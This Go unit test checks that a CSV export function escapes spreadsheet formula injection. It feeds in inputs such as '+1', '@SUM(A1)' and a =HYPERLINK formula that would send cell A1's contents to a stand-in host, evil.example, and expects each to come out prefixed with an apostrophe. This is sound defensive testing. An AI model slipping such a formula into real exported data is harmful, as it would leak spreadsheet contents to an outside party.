package export

import (
	"encoding/csv"
	"strings"
	"testing"

	"gatehouse/storage/storagetest/must"
)

// TestCSVForSpreadsheets: what people choose is text to a spreadsheet, and everything else
// is as it was.
func TestCSVForSpreadsheets(t *testing.T) {
	type row struct {
		Text  string   `json:"text"`
		Texts []string `json:"texts"`
		N     int64    `json:"n"`
	}
	for text, want := range map[string]string{
		"nightly": "nightly", "": "", "a=b": "a=b", "'quoted": "'quoted", "1+1": "1+1",
		`=HYPERLINK("http://evil.example/?"&A1,"look")`: `'=HYPERLINK("http://evil.example/?"&A1,"look")`,
		"+1": "'+1", "-1+1": "'-1+1", "@SUM(A1)": "'@SUM(A1)", "\t=1": "'\t=1", "\r=1": "'\r=1", "＝1": "'＝1", "＠x": "'＠x",
	} {
		var b strings.Builder
		rows := func(yield func(row, error) bool) { yield(row{text, []string{text, "b"}, -1}, nil) }
		must.Do(t, CSV(&b, rows, func(r row) row { return r }))
		got, err := csv.NewReader(strings.NewReader(b.String())).ReadAll()
		if err != nil || len(got) != 2 || got[1][0] != want || got[1][1] != want+" b" || got[1][2] != "-1" {
			t.Errorf("%q: got %q, %v", text, got, err)
		}
	}
}
